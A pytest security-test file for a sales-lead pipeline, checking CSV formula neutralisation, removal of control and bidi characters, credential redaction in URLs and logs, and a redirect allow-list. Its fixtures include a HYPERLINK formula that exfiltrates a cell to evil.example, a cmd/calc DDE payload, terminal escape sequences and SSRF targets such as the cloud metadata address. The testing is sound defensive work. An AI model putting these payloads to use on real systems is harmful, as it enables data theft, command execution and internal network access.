"""Issue 12, items 7 and 8: what leaves the pipeline is inert and keeps secrets.

Item 7: company names, campaigns and referrers are registry- or visitor-controlled, so no
cell of the sales CSV starts a formula, and no control or bidi character (ESC sequences,
NUL, U+202E...) reaches the CSV, the HTML report or the terminal.

Item 8: a ``user:pass@`` or a query token in a --logs/--leadfeeder URL never reaches stderr,
``runs``, ``rejects``, log lines or Prefect's database; registry redirects go only to registries.
"""

from __future__ import annotations

import csv
import io
import re

import duckdb
import pytest
from rich.console import Console
from typer.testing import CliRunner

from flows import cli, console, engine
from flows.config import load_settings
from tests.conftest import combined, offline_night

# Every character that may rewrite a terminal or reorder what a reader sees.
UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

HOSTILE_NAMES = {
    "185.213.44.0/24": '=HYPERLINK("http://evil.example/?"&A1,"Click") Oy',
    "193.166.220.0/24": "@SUM(1+1) Oy",
    "80.248.161.0/24": "-2+3 Oy",
    "91.152.138.0/24": "Esc\x1b[2J\x1b]8;;http://evil.example\x1b\\Oy [link=http://evil.example]x[/link]",
    "62.78.0.0/24": "Invoice\u202egnp.exe Oy\x00\x9b31m",
}


@pytest.fixture
def hostile(tmp_path):
    """A database whose companies, campaigns and referrers were chosen by an attacker."""
    networks = io.StringIO()
    writer = csv.writer(networks)
    writer.writerow(["cidr", "organisation", "kind"])
    for cidr, name in HOSTILE_NAMES.items():
        writer.writerow([cidr, name, "company"])
    path = tmp_path / "networks.csv"
    path.write_text(networks.getvalue())
    lines = []
    for i, cidr in enumerate(HOSTILE_NAMES):
        client = cidr.split("/")[0][:-1] + "7"
        lines.append(combined(client=client, ts=f"21/Nov/2026:1{i}:00:00 +0200",
                              request="GET /pricing?utm_campaign=%3Dcmd%7C%27%20%2FC%20calc%27%21A0 HTTP/1.1",
                              referrer="https://-evil.example/x"))
        lines.append(combined(client=client, ts=f"21/Nov/2026:1{i}:05:00 +0200",
                              request="GET /?utm_campaign=%E2%80%AEfdp.exe%1B%5B2J HTTP/1.1"))
    return offline_night(tmp_path, lines, path)


def test_no_cell_of_the_sales_csv_executes_or_carries_control_characters(hostile):
    _, stats = hostile
    raw = open(stats["report_csv"], "rb").read().decode("utf-8-sig")
    assert not UNSAFE.search(raw.replace("\r\n", "\n")), "a control or bidi character reached the CSV"
    rows = list(csv.reader(io.StringIO(raw), delimiter=";"))
    assert len(rows) == 1 + len(HOSTILE_NAMES)
    for row in rows[1:]:
        for cell in row:
            assert not cell.lstrip(" ").startswith(FORMULA_START) or re.fullmatch(r"-?\d+(,\d+)?", cell), cell
    names = {row[1] for row in rows[1:]}
    # Neutralised, not lost: the text is still there behind the quote.
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\") Oy" in names and "'@SUM(1+1) Oy" in names
    assert "'-2+3 Oy" in names
    assert any(row[14].startswith("'=cmd|") for row in rows[1:])  # campaigns
    assert any(row[13].startswith("'-evil.example") for row in rows[1:])  # referrers


def test_csv_keeps_numbers_as_numbers_and_quotes_text(tmp_path):
    from sinks.report import CSV_COLUMNS, write_csv

    row = {c: None for c in CSV_COLUMNS} | {"rank": 1, "name": "+358 Oy", "visits": 3, "score": -2.5,
                                            "top_pages": ["-x (1)"], "new": True, "industry": "-12,5"}
    write_csv({"companies": [row]}, tmp_path / "r.csv")
    header, line = (tmp_path / "r.csv").read_text(encoding="utf-8-sig").splitlines()[:2]
    cells = line.split(";")
    assert cells[0] == "1" and cells[6] == "3" and cells[10] == "-2,5"  # numbers, unquoted, decimal comma
    assert cells[1] == "\"'+358 Oy\"" and cells[12] == "\"'-x (1)\"" and cells[15] == '"yes"'
    assert cells[3] == '"-12,5"'  # a plain number in a text column cannot compute anything


def test_the_html_report_carries_no_control_or_bidi_character(hostile):
    _, stats = hostile
    html = open(stats["report_html"], encoding="utf-8").read()
    assert not UNSAFE.search(html)
    assert "Invoicegnp.exe Oy" in html  # the text is kept, only the override is gone


def test_the_terminal_summary_shows_names_as_text(hostile, monkeypatch):
    settings, stats = hostile
    screen = io.StringIO()
    monkeypatch.setattr(console, "console", Console(file=screen, force_terminal=True, width=400))
    console.print_summary(stats, settings)
    out = screen.getvalue()
    assert "\x1b[2J" not in out and "\x1b]8;" not in out, "a company name drove the terminal"
    assert not re.search("[\x00\u202e\x9b]", out)
    assert "[link=http://evil.example]x[/link]" in out  # Rich markup in a name is shown, not obeyed


@pytest.mark.parametrize("name", ["missing[/]x.log", "missing\x1b[2J\u202ex.log"])
def test_one_line_errors_are_inert_on_the_terminal(tmp_path, name):
    result = CliRunner().invoke(cli.app, ["ingest", "--db", str(tmp_path / "x.duckdb"), "--logs", str(tmp_path / name)])
    assert result.exit_code == 1, result.output
    assert "leadpipe: error:" in result.stderr and "Traceback" not in result.output
    assert not UNSAFE.search(result.stderr)
    assert not (tmp_path / "x.duckdb").exists()  # found before the run: nothing created, nothing stored


# Item 8: credentials in --logs/--leadfeeder URLs (user:pass@, query tokens) stay secret, and
# registry redirects go only where registries live.

SECRET = "s3cr3tT0ken"
PASSWORD = "pw-" + SECRET


def _url(httpserver, path: str, **query: str) -> str:
    """``http://leadpipe:PASSWORD@127.0.0.1:port/path?query``: credentials where operators put them."""
    base = httpserver.url_for(path).replace("http://", f"http://leadpipe:{PASSWORD}@", 1)
    return base + ("?" + "&".join(f"{k}={v}" for k, v in query.items()) if query else "")


def _everything_stored(db) -> str:
    """Every text of every table, as one string."""
    with duckdb.connect(str(db), read_only=True) as con:
        tables = [t for (t,) in con.execute("SELECT table_name FROM duckdb_tables()").fetchall()]
        return "\n".join(str(con.execute(f"SELECT * FROM {t}").fetchall())  # noqa: S608 - names from the catalog
                         for t in tables)


def test_redact_secrets_in_urls_and_messages():
    from enrich.redact import redact_secrets, redact_url

    assert redact_url("https://u:p%40ss@web1.example.fi:8443/logs/a.gz?token=abc&v=2#access_token=x") \
        == "https://***@web1.example.fi:8443/logs/a.gz?token=***&v=***#access_token=***"
    assert redact_url("https://web1.example.fi/a.gz?Z2VuZXJhdGVk") == "https://web1.example.fi/a.gz?***"
    assert redact_url("https://TOKEN@web1.example.fi/a") == "https://***@web1.example.fi/a"
    message = ("HTTPSConnectionPool(host='web1.example.fi', port=443): Max retries exceeded with url: "
               "/logs/a.gz?X-Amz-Signature=abc&key=def (Caused by NewConnectionError('...'))")
    assert "abc" not in redact_secrets(message) and "def" not in redact_secrets(message)
    assert "/logs/a.gz?X-Amz-Signature=***&key=***" in redact_secrets(message)
    plain = "3 visits (2 in the last 7); viewed pricing twice; bad value for 'x': 'a=b'"
    assert redact_secrets(plain) == plain


def test_log_url_credentials_never_reach_rejects_logs_or_errors(httpserver, tmp_path, caplog):
    from enrich.errors import InputError
    from enrich.weblogs import expand_sources

    lines = (combined() + "\nnot a log line\n").encode()
    httpserver.expect_request("/logs/access.log", query_string={"token": SECRET}).respond_with_data(lines)
    url = _url(httpserver, "/logs/access.log", token=SECRET)
    settings = load_settings({"db": str(tmp_path / "leads.duckdb"), "logs": [url]}, None,
                             {"LEADPIPE_CONFIG_DIR": str(tmp_path / "cfg")})
    assert SECRET not in str(expand_sources([url]))
    with caplog.at_level("DEBUG"):
        stats = engine.execute(settings, "ingest", ["ingest"])
    assert stats["lines_rejected"] == 1 and stats["pageviews"] == 1  # the real URL was fetched
    stored = _everything_stored(settings.db)
    assert SECRET not in stored and "leadpipe:" not in stored
    assert "/logs/access.log?token=***" in stored  # the reject still says where it came from
    ours = [r.getMessage() for r in caplog.records if not r.name.startswith("werkzeug")]  # not the test server's
    assert ours and not any(SECRET in message for message in ours)

    missing = _url(httpserver, "/logs/gone.log", sig=SECRET)
    httpserver.expect_request("/logs/gone.log").respond_with_data("gone", status=404)
    with pytest.raises(InputError) as failure:
        engine.execute(load_settings({"db": str(settings.db), "logs": [missing]}, None,
                                     {"LEADPIPE_CONFIG_DIR": str(tmp_path / "cfg")}), "ingest", ["ingest"])
    assert "HTTP 404" in str(failure.value) and SECRET not in str(failure.value)
    assert SECRET not in _everything_stored(settings.db)


def test_cli_errors_never_show_url_credentials(tmp_path):
    url = f"http://leadpipe:{PASSWORD}@127.0.0.1:9/logs/access.log?access_token={SECRET}"
    result = CliRunner().invoke(cli.app, ["ingest", "--db", str(tmp_path / "x.duckdb"), "--logs", url])
    assert result.exit_code == 1 and "cannot fetch" in result.stderr
    assert SECRET not in result.output and SECRET not in result.stderr
    assert SECRET not in _everything_stored(tmp_path / "x.duckdb")


EXPORT = b"Company name;Website;Visits\r\nKalliodata Oy;kalliodata.fi;3\r\n;nameless.fi;1\r\n"


def test_leadfeeder_url_credentials_stay_secret_and_environment_credentials_win(httpserver, tmp_path, monkeypatch):
    from werkzeug.wrappers import Response

    def only_the_environments_token(request):
        if request.headers.get("Authorization") != "Token token=from-env":
            return Response("no", status=401)
        return Response(EXPORT, content_type="text/csv")

    httpserver.expect_request("/export.csv").respond_with_handler(only_the_environments_token)
    monkeypatch.setenv("LEADPIPE_LEADFEEDER_TOKEN", "from-env")
    settings = load_settings({"db": str(tmp_path / "leads.duckdb"), "offline": False,
                              "leadfeeder": [_url(httpserver, "/export.csv", api_key=SECRET)]}, None)
    stats = engine.execute(settings, "leadfeeder", ["leadfeeder"])
    assert stats["leadfeeder_rows"] == 1 and stats["leadfeeder_rejected"] == 1, stats
    stored = _everything_stored(settings.db)
    assert SECRET not in stored and "leadpipe:" not in stored and "/export.csv?api_key=***" in stored


def test_leadfeeder_url_userinfo_is_used_without_environment_credentials(httpserver, tmp_path, monkeypatch):
    from werkzeug.wrappers import Response

    def basic(request):
        if request.authorization is None or request.authorization.password != PASSWORD:
            return Response("no", status=401)
        return Response(EXPORT, content_type="text/csv")

    httpserver.expect_request("/export.csv").respond_with_handler(basic)
    monkeypatch.delenv("LEADPIPE_LEADFEEDER_TOKEN", raising=False)
    settings = load_settings({"db": str(tmp_path / "leads.duckdb"), "offline": False,
                              "leadfeeder": [_url(httpserver, "/export.csv")]}, None)
    assert engine.execute(settings, "leadfeeder", ["leadfeeder"])["leadfeeder_rows"] == 1
    assert PASSWORD not in _everything_stored(settings.db)


from tests.test_flow import prefect_harness  # noqa: E402,F401 - the same in-process Prefect API


def _prefect_records() -> str:
    """Every flow run (parameters, state message) and log line Prefect stored, as one string."""
    from prefect.client.orchestration import get_client

    with get_client(sync_client=True) as client:
        runs = client.read_flow_runs()
        logs = client.read_logs()
        deployments = client.read_deployments()
    return "\n".join([*(f"{r.parameters} {r.state.message if r.state else ''}" for r in runs),
                      *(log.message for log in logs), *(str(d.parameters) for d in deployments)])


def test_prefect_never_stores_url_credentials(prefect_harness, httpserver, tmp_path):
    from enrich.errors import LeadpipeError
    from flows.nightly import nightly

    httpserver.expect_request("/logs/access.log", query_string={"token": SECRET}).respond_with_data(combined() + "\n")
    overrides = {"db": str(tmp_path / "leads.duckdb"), "offline": False,
                 "logs": [_url(httpserver, "/logs/access.log", token=SECRET)]}
    assert nightly(overrides=overrides)["pageviews"] == 1  # the flow itself got the real URL
    httpserver.expect_request("/logs/gone.log").respond_with_data("gone", status=404)
    with pytest.raises(LeadpipeError, match="HTTP 404") as failure:
        nightly(overrides={**overrides, "logs": [_url(httpserver, "/logs/gone.log", token=SECRET)]})
    assert SECRET not in str(failure.value)
    with pytest.raises(LeadpipeError, match="bad date template"):  # a stage's own error quoting the URL
        nightly(overrides={**overrides, "logs": [_url(httpserver, "/logs/{today}{nope}.log", token=SECRET)]})
    stored = _prefect_records()
    assert "token=***" in stored  # the parameters are there, redacted
    assert SECRET not in stored and PASSWORD not in stored


def test_a_served_deployment_stores_no_url_credentials(prefect_harness, httpserver, tmp_path):
    from flows.nightly import nightly

    httpserver.expect_request("/logs/access.log", query_string={"token": SECRET}).respond_with_data(combined() + "\n")
    parameters = {"overrides": {"db": str(tmp_path / "leads.duckdb"), "offline": False,
                                "logs": [_url(httpserver, "/logs/access.log", token=SECRET)]}}
    deployment = nightly.to_deployment(name="leadpipe-nightly", parameters=parameters)
    assert SECRET not in str(deployment.parameters) and PASSWORD not in str(deployment.parameters)
    # What a scheduled run gets (the runner's child shares this process's environment): it still fetches.
    assert nightly(**deployment.parameters)["pageviews"] == 1


@pytest.mark.parametrize("target", [
    "file:///etc/passwd", "gopher://127.0.0.1:70/x", "https://evil.example/ip/1.2.3.4", "http://10.0.0.1/ip/1.2.3.4",
    "http://169.254.169.254/latest/meta-data/", "https://[fd00::1]/ip/1.2.3.4",
])
def test_registry_redirects_go_only_to_registries(httpserver, target):
    from werkzeug.wrappers import Response

    from enrich.errors import PermanentError
    from enrich.http import PoliteClient

    httpserver.expect_request("/rdap/ip/198.51.1.1").respond_with_response(
        Response("", status=302, headers={"Location": target}))
    client = PoliteClient(min_interval=0, sleep=lambda _: None, max_attempts=1)
    with pytest.raises(PermanentError, match="redirect"):
        client.fetch(httpserver.url_for("/rdap/ip/198.51.1.1"))
    assert client.requests_sent == 1  # refused before asking


@pytest.mark.parametrize(("base", "target", "allowed"), [
    ("https://rdap.arin.net/registry/ip/1.2.3.4", "https://rdap.db.ripe.net/ip/1.2.3.4", True),
    ("https://rdap.arin.net/registry/ip/1.2.3.4", "https://rdap.apnic.net/ip/1.2.3.4", True),
    ("https://rdap.arin.net/registry/ip/1.2.3.4", "https://rdap.arin.net/registry/ip/1.2.3.0", True),
    ("https://avoindata.prh.fi/opendata-ytj-api/v3/companies", "https://avoindata.prh.fi/v3/companies", True),
    ("https://rdap.example.fi/ip/1.2.3.4", "https://rdap.example.fi:8443/ip/1.2.3.4", True),  # the configured host
    ("https://rdap.arin.net/registry/ip/1.2.3.4", "http://rdap.db.ripe.net/ip/1.2.3.4", False),  # not https
    ("https://rdap.arin.net/registry/ip/1.2.3.4", "https://rdap.db.ripe.net.evil.example/ip/1", False),
    ("https://rdap.arin.net/registry/ip/1.2.3.4", "https://evilripe.net/ip/1", False),
    ("https://rdap.arin.net/registry/ip/1.2.3.4", "https://127.0.0.1/ip/1", False),
    ("https://rdap.arin.net/registry/ip/1.2.3.4", "https://localhost/ip/1", False),
    ("https://rdap.arin.net/registry/ip/1.2.3.4", "https://192.168.1.1/ip/1", False),
    ("https://rdap.arin.net/registry/ip/1.2.3.4", "ftp://rdap.db.ripe.net/ip/1", False),
    ("http://127.0.0.1:8000/rdap/ip/1.2.3.4", "http://127.0.0.1:8001/ip/1.2.3.4", True),  # tests' local registries
    ("http://127.0.0.1:8000/rdap/ip/1.2.3.4", "http://localhost:8001/ip/1.2.3.4", True),
    ("http://127.0.0.1:8000/rdap/ip/1.2.3.4", "http://10.1.1.1/ip/1.2.3.4", False),
])
def test_redirect_host_policy(base, target, allowed):
    from enrich.http import redirect_allowed

    assert redirect_allowed(base, target) is allowed
